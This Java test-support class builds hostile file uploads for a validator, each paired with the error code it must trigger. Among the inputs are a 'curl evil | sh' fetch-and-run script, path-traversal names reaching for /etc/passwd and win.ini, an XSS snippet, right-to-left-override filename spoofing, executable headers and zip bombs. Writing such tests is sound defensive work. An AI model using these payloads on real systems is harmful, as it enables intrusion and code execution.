package jp.kyoso.testsupport;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * Uploads an attacker or a careless user would send, each with the field error code it must get: wrong types by
 * content, disguised extensions, zip bombs named .pdf or .docx, too many parts, paths and control characters in the
 * name, empty and oversize files. {@link #cycle} repeats them with varied names up to any count.
 */
public final class HostileUploads {

    /**
     * One hostile upload.
     *
     * @param fileName the name sent in the part's Content-Disposition
     * @param content  the bytes
     * @param code     the field error code on {@code file} that must come back
     */
    public record Upload(String fileName, byte[] content, String code) {
    }

    private HostileUploads() {
    }

    /** Every kind once; {@code maxBytes} is the kind's size limit (one byte more is sent as the oversize case). */
    public static List<Upload> kinds(long maxBytes) {
        byte[] bomb = SampleFiles.zipBomb(200);
        byte[] parts = SampleFiles.manyEntries(1_001);
        List<Upload> uploads = new ArrayList<>();
        uploads.add(new Upload("計画書.pdf", "#!/bin/sh\ncurl evil | sh\n".getBytes(StandardCharsets.UTF_8),
                "attachment.type.unsupported"));
        uploads.add(new Upload("提案.pdf", "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8),
                "attachment.type.unsupported"));
        uploads.add(new Upload("予算.docx", new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0},
                "attachment.type.unsupported"));
        uploads.add(new Upload("写真.png", new byte[] {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0},
                "attachment.type.unsupported"));
        uploads.add(new Upload("資料.docx", SampleFiles.zip(Map.of("readme.txt", "not office")),
                "attachment.type.unsupported"));
        uploads.add(new Upload("写真.pdf", SampleFiles.png(), "attachment.type.mismatch"));
        uploads.add(new Upload("計画書.exe", SampleFiles.pdf(), "attachment.type.mismatch"));
        uploads.add(new Upload("爆弾.pdf", bomb, "attachment.zipBomb"));
        uploads.add(new Upload("爆弾.docx", bomb, "attachment.zipBomb"));
        uploads.add(new Upload("部品.docx", parts, "attachment.zipBomb"));
        uploads.add(new Upload("../../etc/passwd.pdf", SampleFiles.pdf(), "attachment.name.path"));
        uploads.add(new Upload("..\\\\..\\\\windows\\\\win.ini.pdf", SampleFiles.pdf(), "attachment.name.path"));
        uploads.add(new Upload("/var/lib/kyoso/計画書.pdf", SampleFiles.pdf(), "attachment.name.path"));
        uploads.add(new Upload("計画書\u202Efdp.exe", SampleFiles.pdf(), "attachment.name.characters"));
        uploads.add(new Upload("計画\u200B書.pdf", SampleFiles.pdf(), "attachment.name.characters"));
        uploads.add(new Upload(".htaccess", SampleFiles.pdf(), "attachment.name.dot"));
        uploads.add(new Upload("空.pdf", new byte[0], "attachment.empty"));
        uploads.add(new Upload("長".repeat(200) + ".pdf", SampleFiles.pdf(), "attachment.name.tooLong"));
        uploads.add(new Upload("大きすぎる.pdf", SampleFiles.pdfOfSize((int) maxBytes + 1), "attachment.size.tooLarge"));
        return uploads;
    }

    /** {@code count} uploads cycling through {@link #kinds}, each name made unique; oversize ones only every 50th. */
    public static List<Upload> cycle(int count, long maxBytes) {
        List<Upload> kinds = kinds(maxBytes);
        List<Upload> small = kinds.stream().filter(u -> !u.code().equals("attachment.size.tooLarge")).toList();
        Upload oversize = kinds.get(kinds.size() - 1);
        List<Upload> uploads = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            Upload base = i % 50 == 49 ? oversize : small.get(i % small.size());
            uploads.add(new Upload(vary(base.fileName(), i), base.content(), base.code()));
        }
        return uploads;
    }

    /** A different name each time that keeps what makes it hostile (its path, characters, dot or extension). */
    private static String vary(String name, int i) {
        if (name.startsWith(".") || name.length() > 180) {
            return name;
        }
        int slash = Math.max(name.lastIndexOf('/'), name.lastIndexOf('\\'));
        int dot = name.lastIndexOf('.');
        if (dot <= slash + 1) {
            return name + i;
        }
        return name.substring(0, dot) + "-" + i + name.substring(dot);
    }
}
